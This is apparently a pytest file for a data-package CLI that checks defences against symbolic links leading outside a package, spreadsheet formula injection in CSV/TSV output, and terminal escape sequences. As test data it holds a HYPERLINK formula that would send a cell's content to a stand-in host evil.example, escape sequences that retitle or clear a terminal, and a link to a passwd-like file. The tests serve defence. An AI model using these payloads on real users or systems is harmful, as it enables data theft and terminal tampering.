"""Hostile inputs (issue 13): symbolic links out of a package folder, spreadsheet formulas in CSV and TSV
output, terminal escape sequences in cells and messages.

The hostile files live in ``tests/fixtures/hostile/inputs/``; symbolic links are made in ``tmp_path``.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from cli_runner import CliRunner

from cli import app
from kg.package.reader import open_package
from kg.package.safe_input import spreadsheet_safe, terminal_safe
from kg.problems import Problem, Severity
from kg.query.results import Cell, QueryResult, render_csv, render_table, render_tsv
from kg.validation.report_formats import render_csv as render_report_csv
from kg.validation.report_formats import render_text

MINI = Path(__file__).parent / "fixtures" / "build" / "mini"
HOSTILE = Path(__file__).parent / "fixtures" / "hostile" / "inputs"
XSD = "http://www.w3.org/2001/XMLSchema#"

runner = CliRunner()


def _package(tmp_path: Path) -> Path:
    package = tmp_path / "S"
    shutil.copytree(MINI, package)
    return package


def _assert_one_line_refusal(args: list[str], *needles: str) -> str:
    result = runner.invoke(app, args)
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    for needle in needles:
        assert needle in lines[0]
    return lines[0]


# --- item 6: members of a package folder that lead outside it ------------------------------------


@pytest.mark.parametrize("member", ["organisations.csv", "datapackage.yaml", "imports/extra.nt"])
def test_member_linked_outside_the_package_is_refused(tmp_path: Path, member: str) -> None:
    package = _package(tmp_path)
    outside = tmp_path / "secret.data"
    if member == "imports/extra.nt":
        outside.write_text("<urn:x:a> <urn:x:b> <urn:x:c> .\n", encoding="utf-8")
        (package / "imports").mkdir()
    else:
        shutil.move(package / member, outside)
    (package / member).symlink_to(Path("..", *([".."] * member.count("/"))) / "secret.data")
    for command in (["validate", str(package)], ["build", str(package), "-o", str(tmp_path / "out.ttl")]):
        line = _assert_one_line_refusal(command, f"'{member}'", str(outside.resolve()), "outside the package")
        assert line.startswith(f"error: {package}: the member '{member}' is a symbolic link to ")
    assert not (tmp_path / "out.ttl").exists()


def test_table_linked_to_a_system_file_is_refused_without_quoting_it(tmp_path: Path) -> None:
    package = _package(tmp_path)
    outside = tmp_path / "elsewhere" / "passwd"
    outside.parent.mkdir()
    outside.write_text("root:x:0:0:SECRET-FIRST-LINE:/root:/bin/sh\n", encoding="utf-8")
    (package / "codebook.csv").unlink()
    (package / "codebook.csv").symlink_to(outside)
    line = _assert_one_line_refusal(["build", str(package)], "'codebook.csv'", str(outside.resolve()))
    assert "SECRET-FIRST-LINE" not in line


def test_links_inside_the_package_still_work(tmp_path: Path) -> None:
    plain = open_package(MINI)
    package = _package(tmp_path)
    (package / "data").mkdir()
    shutil.move(package / "organisations.csv", package / "data" / "orgs.csv")
    (package / "organisations.csv").symlink_to(Path("data") / "orgs.csv")
    linked_root = tmp_path / "link-to-S"
    linked_root.symlink_to(package)  # the package folder itself may be reached through a link
    for location in (package, linked_root):
        opened = open_package(location)
        assert opened.texts == plain.texts
        assert opened.checksums == plain.checksums


# --- item 7: spreadsheet formulas in CSV and TSV output -----------------------------------------


def test_spreadsheet_safe_prefixes_formula_starts_only() -> None:
    assert [
        spreadsheet_safe(t) for t in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "  =1", "a=1", "", "x")
    ] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\t=1",
        "'\r=1",
        "'  =1",
        "a=1",
        "",
        "x",
    ]


def _hostile_query(fmt: str, tmp_path: Path) -> str:
    out = tmp_path / f"answer.{fmt}"
    result = runner.invoke(
        app,
        [
            "query",
            "run",
            str(HOSTILE / "hostile-cells.rq"),
            "--data",
            str(HOSTILE / "hostile-cells.ttl"),
            "-f",
            fmt,
            "-o",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    return out.read_bytes().decode("utf-8")


def test_query_csv_neutralises_formulas_but_keeps_numbers(tmp_path: Path) -> None:
    assert _hostile_query("csv", tmp_path) == (
        "n,value\r\n"
        '1,"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"\r\n'
        "2,'+1+1\r\n"
        "3,'-2+3\r\n"
        '4,"\'@SUM(1,1)"\r\n'
        "5,'\t=1+1\r\n"
        '6,"\'\r=1+1"\r\n'
        "7,-3.5\r\n"  # a typed decimal: data, not a formula
        "8,-7\r\n"
        "9,'-3.5\r\n"  # the same characters as a plain string: text, so guarded
        "10,\x1b[31mred\x1b]0;owned\x07 \x9b2J\r\n"  # CSV is data: kept byte for byte
        "11,plain text\r\n"
    )


def test_query_tsv_neutralises_formulas_but_keeps_numbers(tmp_path: Path) -> None:
    assert _hostile_query("tsv", tmp_path) == (
        "n\tvalue\n"
        '1\t\'=HYPERLINK("https://evil.example/?"&A1,"x")\n'
        "2\t'+1+1\n"
        "3\t'-2+3\n"
        "4\t'@SUM(1,1)\n"
        "5\t' =1+1\n"
        "6\t' =1+1\n"
        "7\t-3.5\n"
        "8\t-7\n"
        "9\t'-3.5\n"
        "10\t\x1b[31mred\x1b]0;owned\x07 \x9b2J\n"
        "11\tplain text\n"
    )


def test_query_csv_guards_a_number_typed_cell_that_is_not_a_number() -> None:
    # An endpoint may answer anything; a "number" that is really a formula is treated as text.
    result = QueryResult(
        ["v"], [(Cell("literal", "=1+1", XSD + "integer"),), (Cell("literal", "-1e3", XSD + "double"),)]
    )
    assert render_csv(result) == "v\r\n'=1+1\r\n-1e3\r\n"
    assert render_tsv(result) == "v\n'=1+1\n-1e3\n"


def test_validation_csv_neutralises_formulas(tmp_path: Path) -> None:
    package = _package(tmp_path)
    shutil.copy(HOSTILE / "organisations-formulas.csv", package / "organisations.csv")
    result = runner.invoke(app, ["validate", str(package), "-f", "csv"])
    assert result.exit_code == 1, result.output
    assert result.stdout == (
        "severity,rule,file,row,column,value,expected,suggestion,message,focus,path,component,shape\n"
        "violation,table.type,organisations.csv,2,employees,'=1+1,a whole number such as 42,,"
        "employees '=1+1' is not a whole number,,,,\n"
    )


def test_validation_csv_keeps_the_row_a_number() -> None:
    problem = Problem(Severity.WARNING, "r", "-look", "t.csv", row=3, column="@c", value="-5")
    assert render_report_csv([problem], "x") == (
        "severity,rule,file,row,column,value,expected,suggestion,message,focus,path,component,shape\n"
        "warning,r,t.csv,3,'@c,'-5,,,'-look,,,,\n"
    )


# --- item 7: terminal escape sequences ---------------------------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\x08\x9b1m\x7f"
SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\x0d\\x08\\x9b1m\\x7f"


def test_terminal_safe_escapes_controls_but_keeps_tab_and_newline() -> None:
    assert terminal_safe(f"a\tb\n{ESCAPES}é") == f"a\tb\n{SHOWN}é"


def test_query_table_shows_escapes() -> None:
    result = QueryResult(["v"], [(Cell("literal", ESCAPES),)])
    shown = SHOWN.replace("\\x0d", " ")  # a table cell is one line: its line breaks become spaces
    assert render_table(result) == f"v\n{'-' * len(shown)}\n{shown}\n(1 row)\n"


def test_validation_text_shows_escapes() -> None:
    problem = Problem(Severity.VIOLATION, "r", f"bad {ESCAPES}", "t.csv", row=2, column="c")
    assert render_text([problem], "P").endswith(f"t.csv:2:c: violation [r] bad {SHOWN}\n")


def test_problems_printed_by_the_cli_show_escapes(tmp_path: Path) -> None:
    package = _package(tmp_path)
    shutil.copy(HOSTILE / "organisations-escapes.csv", package / "organisations.csv")
    expected = "employees '\\x1b]0;owned\\x07\\x1b[2J42' is not a whole number"
    built = runner.invoke(app, ["build", str(package), "-o", str(tmp_path / "out.ttl")])
    assert built.exit_code == 2, built.output
    assert f"organisations.csv:2:employees: violation: {expected}\n" in built.stderr
    checked = runner.invoke(app, ["validate", str(package)])
    assert checked.exit_code == 1, checked.output
    assert f"organisations.csv:2:employees: violation [table.type] {expected}\n" in checked.stdout
    assert "\x1b" not in built.stderr + checked.stdout


def test_error_line_shows_escapes(tmp_path: Path) -> None:
    missing = tmp_path / "no\x1b]0;owned\x07where"
    line = _assert_one_line_refusal(["validate", str(missing)], "no\\x1b]0;owned\\x07where")
    assert "\x1b" not in line


def test_an_import_does_not_write_through_a_linked_imports_folder(tmp_path: Path) -> None:
    # Regression (issue 13, item 6): `imports` linked to a folder outside the package made the importer
    # write the study's Turtle there.
    from kg.errors import InputError
    from kg.importers.target import open_target, write_import

    package = tmp_path / "study"
    shutil.copytree(Path(__file__).parent / "fixtures" / "build" / "mini", package)
    outside = tmp_path / "outside"
    outside.mkdir()
    (package / "imports").symlink_to(outside, target_is_directory=True)
    with pytest.raises(InputError, match="outside the package folder"):
        write_import(open_target(package), "qda-x.ttl", b"", "test")
    assert list(outside.iterdir()) == []
